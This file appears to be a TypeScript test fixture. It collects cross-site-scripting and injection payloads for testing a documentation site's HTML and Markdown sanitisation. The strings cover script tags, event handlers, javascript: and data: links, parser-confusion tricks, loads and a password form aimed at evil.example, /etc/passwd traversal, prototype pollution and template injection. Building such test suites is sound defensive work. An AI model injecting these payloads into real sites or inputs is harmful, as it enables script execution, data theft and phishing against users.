/**
 * What attackers write, by the classes of the published cheat sheets. Each tries to call `alert(1)`, to
 * load something from `evil.example`, or to pass for the site itself.
 */
import { foreignBlocks, foreignInline } from './foreign-payloads.ts'

/** HTML, as a document may write it between its sentences, or within one. */
const html = String.raw`
<script>alert(1)</script>
<ScRiPt >alert(1)</sCrIpT >
<script src=//evil.example/x.js></script>
<script type=module>import "//evil.example/x.js"</script>
<script/src=data:,alert(1)></script>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
</p></span></span></div><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?php echo '<img src=x onerror=alert(1)>' ?>
<!doctype html><img src=x onerror=alert(1)>
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src="x"onerror="alert(1)">
<img src=x onerror = "alert(1)">
<IMG SRC=x OnErRoR=alert(1)>
<img src='x' alt='"' onerror='alert(1)'>
<img """><script>alert(1)</script>">
<img src=x:x onerror=alert&lpar;1&rpar;>
<img src="javascript:alert(1)">
<img src="https://evil.example/a.png" onload=alert(1)>
<img src="//evil.example/a.png">
<img src="\\evil.example\a.png">
<img srcset="https://evil.example/a.png 1x" src="https://evil.example/b.png">
<img src=x usemap="#m"><map name=m><area shape=default href="javascript:alert(1)"></map>
<image src=x onerror=alert(1)>
<picture><source srcset="https://evil.example/a.png"><img src="https://evil.example/a.png"></picture>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)" /></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><set attributeName=onmouseover to=alert(1)></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"></svg>
<svg><image href="https://evil.example/a.png"></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><style><img src="</style><img src=x onerror=alert(1)>"></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x</maction></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<title><p title="</title><img src=x onerror=alert(1)>"></title>
<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>
<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>
<select><style></select><img src=x onerror=alert(1)></style>
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<style>@import "https://evil.example/x.css";</style>
<style>*{background:url(https://evil.example/a.png)}</style>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=prefetch href=https://evil.example/x>
<link rel=preload as=script href=https://evil.example/x.js>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">
<meta http-equiv=Content-Security-Policy content="script-src *">
<base href="https://evil.example/">
<base target=_blank>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src="https://evil.example/"></iframe>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<object data="https://evil.example/x"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="https://evil.example/x.swf">
<applet code=x archive=https://evil.example/x></applet>
<portal src=https://evil.example/></portal>
<form action="https://evil.example/"><input name=password><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<input type=image src="https://evil.example/a.png" onerror=alert(1)>
<input type=submit formaction="javascript:alert(1)" value=x>
<input type=checkbox onclick=alert(1) checked>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<video src=https://evil.example/x onerror=alert(1) autoplay></video>
<video poster=https://evil.example/a.png><source onerror=alert(1) src=x></video>
<audio src=https://evil.example/x onerror=alert(1)></audio>
<video><track src=https://evil.example/x default></video>
<body onload=alert(1) background=https://evil.example/a.png>
<html onclick=alert(1) manifest=https://evil.example/x>
<marquee onstart=alert(1) loop=1>x</marquee>
<bgsound src=https://evil.example/x>
<details open ontoggle=alert(1)><summary>x</summary></details>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<p style="background:url(https://evil.example/a.png)">x</p>
<p style="position:fixed;inset:0;z-index:9">x</p>
<p style="animation:x 1s" onanimationstart=alert(1)>x</p>
<p onpointerenter=alert(1) onmouseover=alert(1)>x</p>
<p tabindex=1 onfocus=alert(1) autofocus>x</p>
<p contenteditable onbeforeinput=alert(1)>x</p>
<p accesskey=x onclick=alert(1)>x</p>
<p popover id=x onbeforetoggle=alert(1)>x</p>
<p is=x-y>x</p>
<table background="https://evil.example/a.png"><tr><td background="https://evil.example/b.png">x</table>
<a href="javascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#106;&#97;vascript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="&#x0;javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="https://evil.example/" ping="https://evil.example/p" target=_blank download>x</a>
<a href="x" onclick=alert(1) onfocus=alert(1)>x</a>
<x-evil onclick=alert(1)>x</x-evil>
<view-switch onclick=alert(1)>x</view-switch>
<site-search data-base="https://evil.example/">x</site-search>
<missing-page data-routes="https://evil.example/r.json">x</missing-page>
<slot onslotchange=alert(1)><p slot=switch>x</p></slot>
<p class="pair target visually-hidden" hidden data-s=101 data-result>x</p>
<a id="ty-main"></a><a name="ty-status"></a><p id="ty-search">x</p>
<a name="s-aaaaa-101"></a>
<img id=location name=cookie src=x><form id=document name=body>x</form>
<a id="__proto__"></a><a id="constructor"></a>
`
  .trim()
  .split('\n')

/** Markdown. */
const markdown = String.raw`
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](java&#10;script:alert(1))
[x](java%0ascript:alert(1))
[x](<javascript:alert(1)>)
[x](<java script:alert(1)>)
[x](javascript://evil.example/%0aalert(1))
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg/onload=alert(1)>)
[x](blob:https://evil.example/1)
[x](file:///etc/passwd)
[x](view-source:javascript:alert(1))
[x](ms-officecmd:alert)
[x](//evil.example/)
[x](/\evil.example/)
[x](\\\\evil.example\\x)
[x](a"onmouseover="alert(1))
[x](a "t" onmouseover="alert(1)")
[x](a 'b" onmouseover="alert(1)')
[x](a#"onmouseover="alert(1))
[x](#"><img src=x onerror=alert(1)>)
[x"><img src=x onerror=alert(1)>](a)
<javascript:alert(1)>
<data:text/html,alert(1)>
<https://evil.example/"onmouseover=alert(1)>
https://evil.example/"onmouseover=alert(1)
www.evil.example/'onmouseover=alert(1)
![x](javascript:alert(1))
![x](data:text/html,alert(1))
![x](https://evil.example/a.png)
![x](//evil.example/a.png)
![x](a"onerror="alert(1))
![x" onerror="alert(1)](a.png)
![x](a.png "t" onerror="alert(1)")
![x](../../../../../../etc/passwd)
![x](/etc/passwd)
![<script>alert(1)</script>](a.png)
&lt;script&gt;alert(1)&lt;/script&gt;
[x](a.md){onclick=alert(1)}
\<script>alert(1)</script>
${'`'}<script>alert(1)</script>${'`'}
**<script>alert(1)</script>**
[!VIDEO https://evil.example/v]
[!VIDEO javascript:alert(1)]
[!INCLUDE [x](../../../../../../etc/passwd)]
[!INCLUDE [x](/etc/passwd)]
[!INCLUDE [x](file:///etc/passwd)]
[!INCLUDE [x](https://evil.example/x.md)]
[!code-x[x](../../../../../../etc/passwd "alert(1)")]
<xref:javascript:alert(1)>
`
  .trim()
  .split('\n')

/** Lines of their own: nothing but a block of its own gives them a meaning. */
const ownBlocks = String.raw`
> [!VIDEO https://evil.example/v]
> [!VIDEO javascript:alert(1)]
> [!div class="pair ty-x" onclick="alert(1)"]
:::image source="https://evil.example/a.png" alt-text="x":::
:::image source="javascript:alert(1)" alt-text="x" onerror="alert(1)":::
:::image source="a.png" alt-text="<img src=x onerror=alert(1)>":::
:::no-loc text="<img src=x onerror=alert(1)>":::
:::zone pivot="<img src=x onerror=alert(1)>"
::: moniker range="\"><img src=x onerror=alert(1)>"
:::code language="js" source="../../../../../../etc/passwd":::
# [<img src=x onerror=alert(1)>](#tab/"><img src=x onerror=alert(1)>)
[x]: javascript:alert(1)
[x]: https://evil.example/ "><img src=x onerror=alert(1)>
${'```'}<img/src=x/onerror=alert(1)>
${'```'}js" onclick="alert(1)
| <img src=x onerror=alert(1)> | ![x](https://evil.example/a.png) |
`
  .trim()
  .split('\n')

export const blocks: readonly string[] = [...ownBlocks, ...foreignBlocks]

/** Values of front matter. */
export const frontMatter: Record<string, string> = {
  title: `'</title><script>alert(1)</script>'`,
  description: `'"><script>alert(1)</script>'`,
  'ms.contentlocale': `'"><script>alert(1)</script>'`,
  'ms.date': `'<img src=x onerror=alert(1)>'`,
  'ms.lasthandoff': `'"onmouseover="alert(1)'`,
  'ms.translationtype': `'<svg onload=alert(1)>'`,
  __proto__: `{ polluted: true }`,
  constructor: `{ prototype: { polluted: true } }`,
  layout: `'javascript:alert(1)'`,
  'ms.custom': `!!js/function 'function () { alert(1) }'`,
}

/** Names of files, as a file system may hold them. */
export const fileNames = [
  '"><img src=x onerror=alert(1)>',
  "'onmouseover='alert(1)",
  'javascript:alert(1)',
  '<script>alert(1)<script>',
  '%2e%2e%2f%2e%2e%2fx',
  '%00',
  '#fragment',
  '?q=1',
  '{locale}',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\u202ecod.exe',
  '__proto__',
  'a\\..\\..\\b',
  'plain & simple (ok)',
]

/** What stands in an address bar. */
export const fragments = [
  '#"><img src=x onerror=alert(1)>',
  '#<img src=x onerror=alert(1)>',
  '#s-"],[onerror',
  '#s-aaaaa-101"><script>alert(1)</script>',
  '#javascript:alert(1)',
  '#%E0%A4%A',
  '#__proto__',
  '#:has(*)',
]
export const queries = [
  '?view="><script>alert(1)</script>',
  '?view=__proto__',
  '?view=both" onload="alert(1)',
  '?q=<img src=x onerror=alert(1)>',
  '?q="><script>alert(1)</script>',
  '?q=javascript:alert(1)',
  '?q=%00%E0%A4%A',
  '?q=${alert(1)}{{constructor.constructor("alert(1)")()}}',
]

/** Payloads that a line of text can hold. */
export const inline: readonly string[] = [...html, ...markdown, ...foreignInline]

/** All that a document can hold between its sentences. */
export const everywhere: readonly string[] = [...inline, ...blocks]
